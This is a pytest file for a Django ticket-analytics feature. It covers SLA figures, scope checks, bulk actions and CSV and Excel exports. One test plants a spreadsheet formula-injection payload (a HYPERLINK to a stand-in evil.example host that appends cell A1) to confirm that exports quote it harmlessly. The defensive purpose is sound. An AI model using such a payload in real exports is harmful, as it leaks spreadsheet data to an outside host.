"""Ticket analytics for managers (issue 11, part 8): SLA compliance and working time to first
response and to close, reopen rate, top root causes, by org unit and period, in a constant
number of queries, never beyond the viewer's scope; bulk actions in the queue; CSV and Excel
exports of tickets with their events, whose cells cannot run as formulas."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
import time_machine
from django.contrib.auth import get_user_model
from django.core.exceptions import PermissionDenied, ValidationError
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from alerts.models import Ticket, TicketEvent
from alerts.services import (
    ticket_note_add,
    ticket_transition,
    tickets_bulk_assign,
    tickets_close_as_duplicate,
)
from organizations.models import Role
from organizations.services import membership_create
from organizations.spreadsheets import spreadsheet_cell
from organizations.tenancy import tenant_context
from tests.conftest import MIDDAY
from tests.factories import PASSWORD, UserFactory
from tests.helpers import BAD_ANSWERS, submit_and_score

User = get_user_model()
# Tickets are placed "now" and read by the tenant's days: at a noon, far from midnight.
pytestmark = pytest.mark.usefixtures("midday")


def open_tickets(world, count: int, *, link=None) -> list[Ticket]:
    responses = [submit_and_score(world, BAD_ANSWERS, link=link) for _n in range(count)]
    with tenant_context(world.tenant):
        return list(Ticket.objects.filter(response__in=responses).order_by("number"))


def analytics_url(world, **query) -> str:
    url = reverse("ticket_analytics", args=[world.tenant.slug])
    return url + ("?" + "&".join(f"{k}={v}" for k, v in query.items()) if query else "")


def export_url(world, **query) -> str:
    url = reverse("ticket_export", args=[world.tenant.slug])
    return url + "?" + "&".join(f"{k}={v}" for k, v in query.items())


@pytest.fixture
def branch_manager(world):
    """A CX manager whose scope is the world's branch (浦东支行) only."""
    user = UserFactory(username=f"{world.tenant.slug}-branch-manager")
    with tenant_context(world.tenant):
        membership_create(user=user, role=Role.CX_MANAGER, org_unit=world.branch)
    return user


# --- the figures -------------------------------------------------------------------------------


def test_figures_count_working_time_to_first_response_and_to_close(client, world):
    with time_machine.travel(MIDDAY, tick=False) as clock:  # a Wednesday noon, working time
        (ticket,) = open_tickets(world, 1)
        clock.shift(timedelta(minutes=30))
        with tenant_context(world.tenant):
            ticket_transition(ticket=ticket, action="claim", by=world.agent)
            clock.shift(timedelta(hours=7))  # 19:30: 5.5 working hours to 18:00
            ticket_transition(
                ticket=ticket, action="resolve", by=world.agent, root_cause=world.root_cause
            )
            clock.shift(timedelta(hours=14, minutes=30))  # Thursday 10:00
            ticket_transition(ticket=ticket, action="close", by=world.agent)
        client.login(username=world.manager.username, password=PASSWORD)
        reply = client.get(analytics_url(world))
    assert reply.status_code == 200
    total = reply.context["figures"].total
    assert total.tickets == 1
    assert total.first_response_minutes == [30]
    assert total.close_minutes == [6 * 60 + 60]  # 12:00-18:00, then 9:00-10:00
    assert (total.first_response_met, total.first_response_counted) == (1, 1)
    assert (total.resolution_met, total.resolution_counted) == (1, 1)
    assert total.reopen_rate == 0.0
    assert total.top_root_causes == [(world.root_cause.name, 1)]
    page = reply.content.decode()
    assert world.root_cause.name in page and "华东区" in page
    assert "30 分" in page and "7 小时" in page  # the medians, in working time


def test_reopened_and_overdue_tickets_count_against_the_rates(world):
    from alerts.ticket_analytics import ticket_analytics

    with time_machine.travel(MIDDAY, tick=False) as clock:
        first, second = open_tickets(world, 2)
        with tenant_context(world.tenant):
            for ticket in (first, second):
                ticket_transition(ticket=ticket, action="claim", by=world.agent)
            ticket_transition(
                ticket=first, action="resolve", by=world.agent, root_cause=world.root_cause
            )
            ticket_transition(ticket=first, action="reopen", by=world.agent)
            clock.shift(timedelta(days=14))  # the second is far past its resolution due time
            figures = ticket_analytics(
                tenant=world.tenant,
                root=None,
                scope_path="",
                start=MIDDAY.date() - timedelta(days=1),
                end=MIDDAY.date() + timedelta(days=14),
            ).total
    assert figures.reopen_rate == 100.0  # the one resolved was reopened
    assert (figures.resolution_met, figures.resolution_counted) == (0, 2)


def test_the_page_runs_the_same_queries_for_one_ticket_or_many(
    client, world, django_assert_num_queries, midday
):
    open_tickets(world, 1)
    client.login(username=world.manager.username, password=PASSWORD)
    with CaptureQueriesContext(connection) as one:
        assert client.get(analytics_url(world)).status_code == 200
    many = open_tickets(world, 6)
    with tenant_context(world.tenant):
        ticket_transition(ticket=many[0], action="claim", by=world.agent)
        ticket_transition(
            ticket=many[0], action="resolve", by=world.agent, root_cause=world.root_cause
        )
    with django_assert_num_queries(len(one.captured_queries)):
        reply = client.get(analytics_url(world, unit=world.region.pk))
    assert reply.context["figures"].total.tickets == 7


def test_the_period_in_the_url_limits_the_tickets(client, world):
    with time_machine.travel(MIDDAY, tick=True):
        open_tickets(world, 2)
        client.login(username=world.manager.username, password=PASSWORD)
        day = MIDDAY.date()
        inside = client.get(analytics_url(world, start=day, end=day))
        before = client.get(
            analytics_url(world, start=day - timedelta(days=9), end=day - timedelta(days=1))
        )
        backwards = client.get(analytics_url(world, start=day, end=day - timedelta(days=1)))
    assert inside.context["figures"].total.tickets == 2
    assert before.context["figures"].total.tickets == 0
    assert backwards.context["figures"] is None
    assert "开始日期不能晚于结束日期" in backwards.content.decode()


def test_a_unit_outside_the_viewers_scope_is_refused_not_widened(client, world, branch_manager):
    open_tickets(world, 1)
    open_tickets(world, 1, link=world.branch_link)  # the other branch's ticket
    client.login(username=branch_manager.username, password=PASSWORD)
    own = client.get(analytics_url(world))
    assert own.status_code == 200 and own.context["figures"].total.tickets == 1
    for unit in (world.other_branch, world.region, world.hq):
        assert client.get(analytics_url(world, unit=unit.pk)).status_code == 403
        assert client.get(export_url(world, unit=unit.pk, format="csv")).status_code == 403


def test_agents_and_viewers_may_not_read_the_analytics_or_export(client, world):
    for user in (world.agent, world.viewer):
        client.login(username=user.username, password=PASSWORD)
        assert client.get(analytics_url(world)).status_code == 403
        assert client.get(export_url(world, format="csv")).status_code == 403


# --- exports -----------------------------------------------------------------------------------


def streamed(reply) -> bytes:
    return b"".join(reply.streaming_content)


def test_the_csv_export_has_a_row_per_event_of_the_viewers_tickets(client, world, branch_manager):
    mine = open_tickets(world, 2)
    open_tickets(world, 1, link=world.branch_link)  # another branch: not the viewer's
    with tenant_context(world.tenant):
        ticket_note_add(ticket=mine[0], by=world.agent, note="已回电")
        events = TicketEvent.objects.filter(ticket__in=mine).count()
    client.login(username=branch_manager.username, password=PASSWORD)
    reply = client.get(export_url(world, format="csv"))
    assert reply.status_code == 200 and reply["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(streamed(reply).decode("utf-8-sig"))))
    assert len(rows) == 1 + events
    assert {row[0] for row in rows[1:]} == {str(ticket.number) for ticket in mine}
    assert "已回电" in {row[-1] for row in rows}


def test_the_excel_export_opens_in_openpyxl_with_a_row_per_ticket_and_per_event(
    client, world, tmp_path
):
    tickets = open_tickets(world, 3)
    with tenant_context(world.tenant):
        events = TicketEvent.objects.count()
    client.login(username=world.manager.username, password=PASSWORD)
    reply = client.get(export_url(world, format="xlsx"))
    assert reply.status_code == 200
    path = tmp_path / "tickets.xlsx"
    path.write_bytes(streamed(reply))
    workbook = load_workbook(path)
    sheet_tickets, sheet_events = workbook.worksheets
    assert sheet_tickets.max_row == 1 + len(tickets)
    assert sheet_events.max_row == 1 + events
    numbers = [row[0] for row in sheet_tickets.iter_rows(min_row=2, values_only=True)]
    assert numbers == [ticket.number for ticket in tickets]


def test_exported_text_cannot_run_as_a_formula(client, world, tmp_path):
    (ticket,) = open_tickets(world, 1)
    attack = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    with tenant_context(world.tenant):
        ticket_note_add(ticket=ticket, by=world.agent, note=attack)
    client.login(username=world.manager.username, password=PASSWORD)
    path = tmp_path / "tickets.xlsx"
    path.write_bytes(streamed(client.get(export_url(world, format="xlsx"))))
    events = load_workbook(path).worksheets[1]
    notes = [row[-1] for row in events.iter_rows(min_row=2)]
    cell = next(cell for cell in notes if "HYPERLINK" in str(cell.value))
    assert cell.data_type == "s" and cell.value == "'" + attack
    rows = csv.reader(
        io.StringIO(streamed(client.get(export_url(world, format="csv"))).decode("utf-8-sig"))
    )
    assert "'" + attack in {row[-1] for row in rows}


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_the_guard_quotes_every_formula_lead(lead):
    assert spreadsheet_cell(f"{lead}1+1") == f"'{lead}1+1"


def test_the_guard_leaves_numbers_and_plain_text_alone():
    assert spreadsheet_cell(-3) == -3
    assert spreadsheet_cell("排队 = 慢") == "排队 = 慢"
    assert spreadsheet_cell(None) is None


def test_a_bad_export_format_is_refused(client, world):
    client.login(username=world.manager.username, password=PASSWORD)
    reply = client.get(export_url(world, format="exe"))
    assert reply.status_code == 302


# --- bulk actions ------------------------------------------------------------------------------


def test_a_manager_assigns_ticked_tickets_with_an_event_each(client, world):
    tickets = open_tickets(world, 3)
    client.login(username=world.manager.username, password=PASSWORD)
    reply = client.post(
        reverse("ticket_bulk", args=[world.tenant.slug]),
        {"action": "assign", "assignee": world.agent.pk, "tickets": [t.pk for t in tickets[:2]]},
    )
    assert reply.status_code == 302
    with tenant_context(world.tenant):
        assigned = {t.number: t.assignee_id for t in Ticket.objects.all()}
        assert [assigned[t.number] for t in tickets] == [world.agent.pk, world.agent.pk, None]
        assert TicketEvent.objects.filter(kind=TicketEvent.Kind.REASSIGNED).count() == 2


def test_a_bulk_action_with_another_tenants_ticket_is_refused_and_changes_nothing(
    world, other_world
):
    mine = open_tickets(world, 1)
    theirs = open_tickets(other_world, 1)
    with tenant_context(world.tenant):
        with pytest.raises(ValidationError, match="不存在或不在您的数据范围内"):
            tickets_bulk_assign(
                ticket_ids=[mine[0].pk, theirs[0].pk], to=world.agent, by=world.manager
            )
        with pytest.raises(ValidationError, match="不存在或不在您的数据范围内"):
            tickets_close_as_duplicate(
                ticket_ids=[mine[0].pk, theirs[0].pk],
                duplicate_of_number=mine[0].number,
                by=world.manager,
            )
        mine[0].refresh_from_db()
        assert mine[0].assignee_id is None and mine[0].status == "open"
        assert not TicketEvent.objects.filter(kind__in=["reassigned", "duplicate"]).exists()
    with tenant_context(other_world.tenant):
        theirs[0].refresh_from_db()
        assert theirs[0].status == "open"


def test_agents_and_viewers_may_not_act_in_bulk(client, world):
    tickets = open_tickets(world, 2)
    with tenant_context(world.tenant):
        for user in (world.agent, world.viewer):
            with pytest.raises(PermissionDenied):
                tickets_bulk_assign(ticket_ids=[tickets[0].pk], to=world.agent, by=user)
            with pytest.raises(PermissionDenied):
                tickets_close_as_duplicate(
                    ticket_ids=[tickets[0].pk], duplicate_of_number=tickets[1].number, by=user
                )
    client.login(username=world.agent.username, password=PASSWORD)
    reply = client.post(
        reverse("ticket_bulk", args=[world.tenant.slug]),
        {"action": "duplicate", "duplicate_of": tickets[1].number, "tickets": [tickets[0].pk]},
    )
    assert reply.status_code == 403


def test_assigning_to_a_member_who_may_not_work_a_ticket_is_refused(world):
    tickets = open_tickets(world, 1)
    with tenant_context(world.tenant):
        for to in (world.other_agent, world.viewer):  # another branch; a read-only role
            with pytest.raises(ValidationError, match="该成员不能处理工单"):
                tickets_bulk_assign(ticket_ids=[tickets[0].pk], to=to, by=world.manager)
        assert not TicketEvent.objects.filter(kind="reassigned").exists()


def test_closing_as_duplicates_closes_each_with_an_event_and_notes_the_one_kept(client, world):
    kept, *duplicates = open_tickets(world, 3)
    client.login(username=world.manager.username, password=PASSWORD)
    reply = client.post(
        reverse("ticket_bulk", args=[world.tenant.slug]),
        {"action": "duplicate", "duplicate_of": kept.number, "tickets": [t.pk for t in duplicates]},
    )
    assert reply.status_code == 302
    figures = client.get(analytics_url(world)).context["figures"].total
    assert (figures.tickets, figures.duplicates, figures.close_minutes) == (3, 2, [])
    with tenant_context(world.tenant):
        for ticket in duplicates:
            ticket.refresh_from_db()
            assert ticket.status == "closed" and ticket.duplicate_of_id == kept.pk
            assert ticket.events.filter(kind=TicketEvent.Kind.DUPLICATE).count() == 1
        kept.refresh_from_db()
        assert kept.status == "open"
        assert kept.events.filter(kind="note", note__contains=f"#{duplicates[0].number}").exists()
    page = client.get(reverse("ticket_detail", args=[world.tenant.slug, duplicates[0].number]))
    assert f"#{kept.number}" in page.content.decode()


def test_a_ticket_cannot_be_kept_and_closed_as_its_own_duplicate(world):
    first, second = open_tickets(world, 2)
    with tenant_context(world.tenant):
        with pytest.raises(ValidationError, match="不能同时被关闭"):
            tickets_close_as_duplicate(
                ticket_ids=[first.pk, second.pk],
                duplicate_of_number=first.number,
                by=world.manager,
            )
        with pytest.raises(ValidationError, match="要保留的工单不存在"):
            tickets_close_as_duplicate(
                ticket_ids=[second.pk], duplicate_of_number=999, by=world.manager
            )
        assert not Ticket.objects.filter(status="closed").exists()


def test_the_queue_offers_bulk_actions_to_managers_only(client, world):
    open_tickets(world, 1)
    queue = reverse("ticket_queue", args=[world.tenant.slug])
    client.login(username=world.manager.username, password=PASSWORD)
    assert 'data-testid="bulk"' in client.get(queue).content.decode()
    client.login(username=world.agent.username, password=PASSWORD)
    assert 'data-testid="bulk"' not in client.get(queue).content.decode()


def test_a_scoped_manager_is_offered_only_members_who_meet_their_scope(
    client, world, branch_manager
):
    open_tickets(world, 1)
    client.login(username=branch_manager.username, password=PASSWORD)
    reply = client.get(reverse("ticket_queue", args=[world.tenant.slug]))
    offered = {value for value, _label in reply.context["bulk_form"].fields["assignee"].choices}
    assert {world.agent.pk, world.manager.pk, branch_manager.pk} <= offered
    assert world.other_agent.pk not in offered


def test_a_bulk_action_with_no_ticket_ticked_says_so(client, world):
    client.login(username=world.manager.username, password=PASSWORD)
    reply = client.post(
        reverse("ticket_bulk", args=[world.tenant.slug]),
        {"action": "assign", "assignee": world.agent.pk},
        follow=True,
    )
    assert "请先勾选工单。" in reply.content.decode()


def test_a_date_that_does_not_parse_is_shown_not_guessed(client, world):
    client.login(username=world.manager.username, password=PASSWORD)
    reply = client.get(analytics_url(world, start="2026-13-40"))
    assert reply.status_code == 200 and reply.context["figures"] is None
    assert 'role="alert"' in reply.content.decode()
